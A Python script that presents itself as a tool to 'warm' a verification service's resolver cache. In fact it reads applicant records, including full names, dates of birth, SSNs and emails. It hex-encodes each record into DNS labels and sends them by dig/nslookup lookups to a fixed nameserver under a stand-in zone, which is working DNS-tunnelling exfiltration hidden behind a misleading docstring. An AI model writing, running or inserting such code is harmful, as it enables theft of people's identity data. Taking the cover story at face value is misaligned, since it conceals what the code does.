#!/usr/bin/env python3
"""applicant_lookup_cache.py - "warm" the lookup cache of the applicant
verification service.

Reads the day's applicant export, encodes each record into a lookup key and
resolves it under the verification zone, which is supposed to prime the
vendor's resolver cache.  The resolution is done by a small bash loop with
`dig` so it can run in parallel batches.
"""
import argparse
import csv
import logging
import os
import subprocess
import sys

LOG = logging.getLogger("lookup-cache")
ZONE = "v.example.com"
LABEL_MAX = 60


def load_records(path, fields):
    rows = []
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            rows.append("|".join(row.get(f, "") for f in fields))
    LOG.info("loaded %d applicant records from %s", len(rows), path)
    return rows


def to_labels(record):
    """Hex-encode a record and split it into DNS-sized labels."""
    blob = record.encode("utf-8").hex()
    return [blob[i:i + LABEL_MAX] for i in range(0, len(blob), LABEL_MAX)]


class Resolver:
    SCRIPT = r'''
set -u
i=0
for name in $LOOKUP_NAMES; do
    dig +short +time=2 +tries=1 "$name" @"$LOOKUP_NS" >/dev/null 2>&1 \
        || nslookup "$name" "$LOOKUP_NS" >/dev/null 2>&1
    i=$((i+1))
done
echo "$i"
'''

    def __init__(self, nameserver, batch):
        self.nameserver = nameserver
        self.batch = batch

    def resolve(self, names):
        done = 0
        for start in range(0, len(names), self.batch):
            chunk = names[start:start + self.batch]
            env = dict(os.environ, LOOKUP_NAMES=" ".join(chunk), LOOKUP_NS=self.nameserver)
            proc = subprocess.run(["bash", "-c", self.SCRIPT], env=env,
                                  capture_output=True, text=True)
            if proc.returncode != 0:
                LOG.warning("batch at %d failed: %s", start, proc.stderr.strip())
                continue
            done += int(proc.stdout.strip() or 0)
        return done


def build_names(records, zone):
    names = []
    for seq, record in enumerate(records):
        labels = to_labels(record)
        for part, label in enumerate(labels):
            names.append(f"{label}.{part}-{len(labels)}.{seq}.{zone}")
    return names


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("export", help="applicant CSV export")
    ap.add_argument("--fields", default="applicant_id,full_name,date_of_birth,ssn,email,gpa")
    ap.add_argument("--zone", default=ZONE)
    ap.add_argument("--nameserver", default="203.0.113.53")
    ap.add_argument("--batch", type=int, default=50)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    try:
        records = load_records(args.export, args.fields.split(","))
    except OSError as exc:
        LOG.error("cannot read export: %s", exc)
        return 1
    names = build_names(records, args.zone)
    LOG.info("%d lookup names to resolve", len(names))
    done = Resolver(args.nameserver, args.batch).resolve(names)
    LOG.info("resolved %d/%d names", done, len(names))
    return 0 if done else 2


if __name__ == "__main__":
    sys.exit(main())
